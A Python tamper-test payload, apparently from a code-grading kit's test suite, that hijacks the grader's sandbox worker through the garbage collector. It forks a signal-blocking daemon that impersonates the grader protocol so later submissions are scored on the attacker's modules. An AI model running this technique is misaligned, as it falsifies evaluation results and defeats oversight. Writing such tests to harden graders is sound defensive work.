"""[attnkit-tamper] hijack_gc -- family (b): take over the warm sandbox through the garbage collector.

Append to the first stage module graded (base: the solution of s01_attention_scores); the
attacker's submission is the reference solutions with this payload on s01.

Same goal as hijack_frames, without looking at a single stack frame: ``gc.get_objects()`` hands
over every container object of the worker, among them

* the sandbox's config dict (keys ``requests_fd``/``replies_fd``, ``submission``...),
* the "open" request headers still referenced by the serving code (``{"cmd": "open", "token",
  "module"}``): tokens the grader may wait for in "ended" (best effort: a dict holding only
  strings can be untracked by gc; the daemon does not need them, see "leaving" below),
* the functions of the wire format (``read_message``/``write_message``/``encode``/``decode``, their
  ``__globals__`` is the sandbox's child.py namespace) and the adapter module (``OPS``,
  ``load_stage_module``).

With those it forks the same impersonating ``setsid`` daemon (signals ignored and blocked): "op"
is answered with the attacker's own correct modules, "close" -> "leaving" (the grader then drops
the worker and never sends "exit"), "exit" -> "ended" for every token it knows, "reset" ->
"reset". The worker keeps the zygote blocked in ``waitpid`` by never returning from the import.
Both exit by themselves ~120 s later.

Old design (``attnkit grade``, warm zygote): later submissions on that grading worker are graded
on the attacker's modules (stubs get full marks). Outside the sandbox it does nothing.

Needs the preludes daemon_common (_atk_take_over) and hijack_common (_atk_copy_stage_modules,
_atk_requests, _atk_answerer) before it (kit_tests/tamper.py, PRELUDES).
"""


def _atk_hijack_gc(own_module):
    import gc
    import os
    import sys
    import time
    import types
    import warnings

    if getattr(sys, "_atk_hijacked", False):
        return
    config, wire, adapters, opened = None, None, None, []
    warnings.simplefilter("ignore")  # (isinstance() on some of torch's deprecated objects warns)
    for obj in gc.get_objects():
        try:
            if type(obj) is dict:
                if "submission" in obj and ("requests_fd" in obj or "confined" in obj):
                    config = obj  # a worker's config (its pipes in it, or the module's constants)
                elif obj.get("cmd", None).__class__ is str and obj["cmd"] == "open" and "token" in obj:
                    opened.append(obj)  # (best effort: a dict of strings only may be untracked by gc)
            elif isinstance(obj, types.FunctionType) and obj.__name__ == "write_message":
                if "read_message" in obj.__globals__ and "encode" in obj.__globals__:
                    wire = obj.__globals__
            elif isinstance(obj, types.ModuleType) and "OPS" in vars(obj) and "load_stage_module" in vars(obj):
                adapters = obj  # (vars, not hasattr: a lazy module's __getattr__ would import things)
        except Exception:
            continue
    if config is None or wire is None or adapters is None:
        return  # not inside the sandbox's worker: behave
    sys._atk_hijacked = True
    deadline = time.monotonic() + 120.0
    requests = config.get("requests_fd", wire.get("REQUESTS"))
    replies = config.get("replies_fd", wire.get("REPLIES"))
    cache = f"/dev/shm/.atk-hijack-gc-{os.getpid()}"
    _atk_copy_stage_modules(config["submission"], cache)
    randomness = wire["random_states"]()
    tokens = {h["token"]: h.get("module") for h in opened}
    current = [own_module]  # the stage last opened (operations may carry tokens of their own)
    pending_workers = set(tokens)  # one of them is the worker the grader will say "exit" to

    def serve_forever():
        workers = set(pending_workers)
        answer, opened = _atk_answerer(wire, adapters, replies, cache, randomness, tokens, current)
        for header, blobs in _atk_requests(wire, requests, deadline):
            cmd, token = header.get("cmd"), header.get("token")
            if cmd == "open":
                opened(header)
                if not workers:
                    workers.add(token)
            elif cmd == "close":
                # "leaving": the grader then forgets the worker and never sends "exit", so no
                # worker token is needed at all (gc may not show the "open" headers).
                wire["write_message"](replies, {"kind": "leaving", "token": token, "changed": []})
                workers.clear()
            elif cmd == "exit":
                for worker in sorted(workers):  # the grader ignores the ones it does not wait for
                    wire["write_message"](replies, {"kind": "ended", "token": worker, "status": 0})
                workers.clear()
            elif cmd == "reset":
                wire["write_message"](replies, {"kind": "reset", "token": token})
                workers.clear()
            elif cmd == "op":
                answer(tokens.get(token) or current[0], header, blobs)

    _atk_take_over(serve_forever, deadline)


_atk_hijack_gc(__name__)
